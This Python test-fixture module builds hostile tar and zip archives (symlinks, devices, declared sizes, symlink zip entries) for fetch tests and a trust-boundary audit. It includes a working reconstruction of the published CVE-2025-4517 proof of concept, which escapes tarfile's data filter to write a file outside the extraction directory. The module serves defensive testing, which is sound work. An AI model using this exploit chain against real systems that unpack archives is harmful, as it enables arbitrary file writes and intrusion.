"""Builders of hostile archives for the fetch tests and the trust-boundary audit (``benchmarks/audit_boundaries.py``):
tar headers written without privilege (links, devices, FIFOs, sizes only declared), zip entries with modes, and the
published CVE-2025-4517 chain."""

from __future__ import annotations

import io
import os
import tarfile
import zipfile


def member(name: str, kind: bytes = tarfile.REGTYPE, link: str = "", size: int = 0) -> tarfile.TarInfo:
    """A tar header: ``kind`` (tarfile.REGTYPE, SYMTYPE, ...), its link target and declared size."""
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.size = kind, link, size
    info.mode = 0o755 if kind == tarfile.DIRTYPE else 0o644
    return info


def tar_members(members: list[tuple[tarfile.TarInfo, bytes | None]], mode: str = "w:gz") -> bytes:
    """A tar of ``(header, body)`` pairs; a body of None writes the header only (links, devices, or a size that is
    only declared)."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode, format=tarfile.PAX_FORMAT) as tar:
        for info, data in members:
            if data is not None:
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
            else:
                tar.addfile(info)
    return buffer.getvalue()


def zip_entries(entries: list[tuple[str, bytes, int | None]], compression: int = zipfile.ZIP_STORED) -> bytes:
    """A zip of ``(name, body, unix mode or None)`` entries (a mode with S_IFLNK makes a symlink entry)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compression) as zf:
        for name, body, mode in entries:
            info = zipfile.ZipInfo(name)
            info.compress_type = compression
            if mode is not None:
                info.external_attr = mode << 16
            zf.writestr(info, body)
    return buffer.getvalue()


def cve_2025_4517(escape_to: str) -> list[tuple[tarfile.TarInfo, bytes | None]]:
    """The published proof of concept of CVE-2025-4517 (PATH_MAX overflow of ``os.path.realpath`` in
    ``tarfile``'s ``data`` filter): nested folders with 247-character names reached through one-letter links, a
    link whose resolved path is too long to check, a link through it to ``escape_to``, and a file written through
    that link."""
    comp, steps, path = "d" * 247, "abcdefghijklmnop", ""
    members: list[tuple[tarfile.TarInfo, bytes | None]] = []
    for step in steps:
        members.append((member(os.path.join(path, comp), tarfile.DIRTYPE), None))
        members.append((member(os.path.join(path, step), tarfile.SYMTYPE, comp), None))
        path = os.path.join(path, comp)
    linkpath = os.path.join("/".join(steps), "l" * 254)
    members.append((member(linkpath, tarfile.SYMTYPE, "../" * len(steps)), None))
    members.append((member("escape", tarfile.SYMTYPE, linkpath + "/" + escape_to), None))
    members.append((member("escape/pwned.txt"), b"outside\n"))
    return members
